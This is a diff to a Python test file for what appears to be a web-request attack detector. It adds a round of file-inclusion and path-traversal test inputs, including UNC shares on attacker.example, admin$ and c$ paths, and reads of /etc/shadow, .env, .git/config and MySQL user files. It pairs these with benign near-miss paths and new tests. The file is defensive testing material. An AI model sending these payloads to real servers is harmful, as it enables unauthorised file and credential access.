@@ -932,10 +932,47 @@ def test_round3_sizes():
     assert len({_label(r) for r in r3}) == len(r3) and len({_label(r) for r in R3_BENIGN}) == len(R3_BENIGN)
 
 
+# Round 4 (late benign batch): a UNC share of the office network in a path field, and a service's data folder as a
+# monitoring label, beside the includes and file reads of the same shapes. An include needs a host the server can
+# reach from outside (a DNS name, an address, WebDAV) or loads a script; a folder directly under /var/lib, /var/www,
+# /usr/local (FHS: one directory per application there) names no file to read.
+R4_ATTACKS = [
+    qv("path", "\\\\attacker.example\\share\\shell.php"), qv("path", "\\\\attacker.example\\share"),
+    js({"path": "\\\\attacker.example\\share\\"}), form("template", "\\\\203.0.113.7\\pub\\x"),
+    qv("inc", "\\\\evil-host.example.net\\s\\header"), qv("file", "\\\\localhost\\admin$\\system32\\drivers\\etc\\hosts"),
+    qv("path", "\\\\127.0.0.1\\c$\\windows\\win.ini"), qv("path", "\\\\attacker@80\\share\\x"),
+    qv("page", "\\\\attacker\\share\\shell.php"), qv("dir", "\\\\attacker.example\\DavWWWRoot"),
+    js({"path": "\\\\fileserver01\\c$\\inetpub\\wwwroot\\web.config"}), qv("path", "\\\\fs01\\share\\x.txt?"),
+    qv("file", "/var/lib/mysql/mysql/db.MYD"), qv("file", "../../var/lib/mysql/mysql/user.frm"),
+    qv("path", "/var/lib/php/sessions/sess_5f2c1a9e8b7d"), js({"mountpoint": "/var/lib/mysql/../../../etc/shadow"}),
+    qv("dir", "/var/lib/mysql/debian-5.7.flag"), form("file", "/var/www/html/.env"), qv("log", "/var/log/mysql/error.log"),
+    qv("f", "/var/lib/docker/containers/abc/config.v2.json"), js({"path": "/var/www/.git/config"}),
+    qv("file", "/usr/local/etc/redis.conf"), q("file", "%2fvar%2flib%2fmysql%2fmysql%2fuser.MYD"),
+    qv("file", "/var/spool/cron/crontabs/root"), qv("file", "/var/lib/mysql/%00"), qv("file", "/var/www/../../etc/hosts"),
+    qv("file", "file:///var/lib/mysql"), qv("f", "/usr/local/lib/php.ini"),
+]
+R4_BENIGN = [
+    js({"mountpoint": "/var/lib/postgresql"}), form("docroot", "/var/www/shop"), qv("dir", "/var/www/html"),
+    js({"data_dir": "/var/lib/mysql/"}), js({"prefix": "/usr/local/lib"}), form("install_dir", "/usr/local/bin"),
+    js({"path": "\\\\fileserver02\\HR\\Payroll"}), js({"share": "\\\\nas01\\Backups\\2023"}),
+    js({"path": "\\\\FS-LEEDS\\Projects\\2024\\Q3"}), form("path", "\\\\printsrv\\Accounts-Floor2"),
+    qv("folder", "\\\\nas\\photos\\2019\\holiday"), js({"root": "\\\\corp-dc01\\NETLOGON"}),
+    qv("path", "/var/lib/grafana"),
+]
+# Same shape, but the folder is named after a program, which rce:bare_command (another helper's detector) flags as of
+# this round; the path families must stay silent on them (not in _NEAR_MISSES, whose verdicts are asserted exactly).
+R4_BENIGN_OTHER_FAMILY = [
+    js({"labels": {"alertname": "DiskFull", "mountpoint": "/var/lib/docker"}}),
+    js({"device": "/dev/sda1", "mountpoint": "/var/lib/kubelet"}), js({"volume": {"name": "db-data", "path": "/var/lib/mysql"}}),
+]
+# First pass on the code before this round's fix: 28 / 28 attacks caught, 15 / 16 benign values (both lists) flagged by a
+# path family; after: 28 / 28 and 0 / 16.
+
+
 # Round 1's batches (ALL_*), round 2's CRS 3.3.4 classes and round 3's CRS 4.25 classes and probes stay separate lists
 # for the per-batch first-pass numbers; one attack test and one near-miss test run over all of them.
-_ATTACKS = ALL_ATTACKS + CLASS_ATTACKS + R3_ALL
-_NEAR_MISSES = ALL_BENIGN + CLASS_BENIGN + FIXED_FP + R3_BENIGN
+_ATTACKS = ALL_ATTACKS + CLASS_ATTACKS + R3_ALL + R4_ATTACKS
+_NEAR_MISSES = ALL_BENIGN + CLASS_BENIGN + FIXED_FP + R3_BENIGN + R4_BENIGN
 _OTHER_FAMILY_FP = OTHER_FAMILY_FP | R3_OTHER_FAMILY_FP
 
 
@@ -952,3 +989,16 @@ def test_benign_near_miss_is_clean(engine, r):
     assert not [h for h in hits if h.type in FAMILIES and h.score >= THRESHOLD], hits
     if _label(r) not in _OTHER_FAMILY_FP:
         assert verdict(hits) == "clean", hits
+
+
+def test_round4_sizes():
+    labels = [_label(r) for r in R4_ATTACKS]
+    benign = [_label(r) for r in R4_BENIGN + R4_BENIGN_OTHER_FAMILY]
+    assert len(set(labels)) == len(labels) >= 25 and len(set(benign)) == len(benign) >= 15
+    assert not set(labels) & {_label(r) for r in ALL_ATTACKS + CLASS_ATTACKS + R3_ALL}
+
+
+@pytest.mark.parametrize("r", R4_BENIGN_OTHER_FAMILY, ids=_ids(R4_BENIGN_OTHER_FAMILY))
+def test_round4_folder_names_have_no_path_finding(engine, r):
+    hits = engine.inspect(r)
+    assert not [h for h in hits if h.type in FAMILIES and h.score >= THRESHOLD], hits
